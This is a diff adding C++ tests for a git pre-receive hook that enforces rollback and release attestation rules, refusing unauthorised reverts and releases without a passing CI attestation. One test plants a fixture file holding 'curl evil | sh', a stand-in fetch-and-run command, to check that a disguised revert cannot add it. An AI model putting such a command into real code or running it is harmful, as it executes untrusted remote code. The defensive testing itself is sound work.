@@ -760,3 +760,113 @@ TEST_CASE("a pre-receive killed by SIGTERM or its watchdog still leaves its reco
   }
 }
 }
+
+TEST_SUITE("pre_receive") {
+
+TEST_CASE("the SOP's literal rollback: git revert pushed as it is, by a holder of a rollback role") {
+  Server s;
+  Client c(s);
+  bootstrap(s, c);
+  c.release("feature/bad", "bad.txt", "regression\n");
+  REQUIRE(c.push("-q origin main").exit_code == 0);
+  const std::string release = c.head();
+  c.git("revert --no-edit -m 1 " + release);
+  // Anonymous: the plain revert carries no authority; the fix says which lines to add.
+  auto r = c.push("origin main");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[rollback/no-record]"));
+  CHECK(contains(r.err, "--trailer 'Rollback-Of: " + release + "'"));
+  CHECK(s.rev("refs/heads/main") == release);
+  // Someone who holds no rollback role: still refused.
+  r = c.push("origin main", "REMOTE_USER=intern@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(s.rev("refs/heads/main") == release);
+  // The CDO, proven by the host: accepted, no QA gate.
+  r = c.push("origin main", "REMOTE_USER=dana@example.com");
+  CHECK_MESSAGE(r.exit_code == 0, r.all());
+  CHECK(s.rev("refs/heads/main") == c.head());
+}
+
+TEST_CASE("a plain git revert of something main never had is not a rollback, whoever pushes it") {
+  Server s;
+  Client c(s);
+  bootstrap(s, c);
+  const std::string before = s.rev("refs/heads/main");
+  const std::string tree = trimmed(run_ok("git rev-parse main^{tree}", s.bare).out);
+  // Off main: a commit that deletes a payload; its revert adds the payload.
+  c.git("checkout -q -b scratch main");
+  c.commit_file("payload.sh", "curl evil | sh\n", "add payload");
+  c.git("rm -q payload.sh");
+  c.git("commit -q -m 'drop payload'");
+  const std::string drop = c.head();
+  c.git("checkout -q main");
+  // The revert of `drop` on main adds the payload (git revert applies its reverse).
+  c.git("revert --no-edit " + drop);
+  CHECK(read_file(c.path() / "payload.sh") == "curl evil | sh\n");
+  // X unknown to the server, then X on another branch of the server: both refused.
+  auto r = c.push("origin main", "REMOTE_USER=dana@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[rollback/unknown-commit]"));
+  CHECK(s.rev("refs/heads/main") == before);
+  REQUIRE(c.push("-q origin scratch").exit_code == 0);
+  r = c.push("origin main", "REMOTE_USER=dana@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[rollback/not-on-branch]"));
+  CHECK(s.rev("refs/heads/main") == before);
+  CHECK(trimmed(run_ok("git rev-parse main^{tree}", s.bare).out) == tree);
+}
+
+}
+
+TEST_SUITE("pre_receive") {
+
+TEST_CASE("attestations: required for releases, pushed only by the CI identity, checked for the exact commit") {
+  Server s;
+  write_file(s.bare / "release-gate.yml",
+             kPolicy + "readiness:\n  attestation:\n    required: true\n    users: [ci-bot@example.com]\n");
+  Client c(s);
+  bootstrap(s, c);
+  c.git("checkout -q -b feature/pay main");
+  c.commit_file("pay.txt", "pay\n", "payments");
+  REQUIRE(c.push("-q origin feature/pay").exit_code == 0);
+  const std::string candidate = c.head();
+  c.git("checkout -q main");
+  c.git("merge -q --no-ff -m " + sh_quote("Release payments\n\n" + kRoutine) + " feature/pay");
+  const std::string before = s.rev("refs/heads/main");
+  auto r = c.push("--atomic origin main :feature/pay");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[attest/missing]"));
+  CHECK(s.rev("refs/heads/main") == before);
+
+  auto attest = [&](const std::string& commit, bool passed) {
+    const std::string json = std::string("{\"format\":\"release-gate-attestation/1\",\"commit\":\"") + commit +
+                             "\",\"passed\":" + (passed ? "true" : "false") +
+                             ",\"items\":[{\"id\":\"tech.no-open-sev\",\"status\":\"" + (passed ? "pass" : "fail") +
+                             "\"}]}";
+    write_file(c.path() / "att.json", json);
+    return trimmed(c.git("hash-object -w att.json").out);
+  };
+  const std::string ref = "refs/release-gate/attestations/" + candidate;
+  // Anyone else pushing the attestation ref is refused.
+  r = c.push("origin " + attest(candidate, true) + ":" + ref, "REMOTE_USER=dev@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[attest/not-allowed-to-push]"));
+  // A failing attestation by the CI identity is accepted as a ref, but does not let the release in.
+  REQUIRE(c.push("origin " + attest(candidate, false) + ":" + ref, "REMOTE_USER=ci-bot@example.com").exit_code == 0);
+  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[attest/not-passing]"));
+  CHECK(s.rev("refs/heads/main") == before);
+  // An attestation naming another commit is invalid.
+  REQUIRE(c.push("-f origin " + attest(before, true) + ":" + ref, "REMOTE_USER=ci-bot@example.com").exit_code == 0);
+  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[attest/invalid]"));
+  // The passing attestation for the candidate: the release goes in.
+  REQUIRE(c.push("-f origin " + attest(candidate, true) + ":" + ref, "REMOTE_USER=ci-bot@example.com").exit_code == 0);
+  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana@example.com");
+  CHECK_MESSAGE(r.exit_code == 0, r.all());
+  CHECK(s.rev("refs/heads/main") == c.head());
+}
+
+}
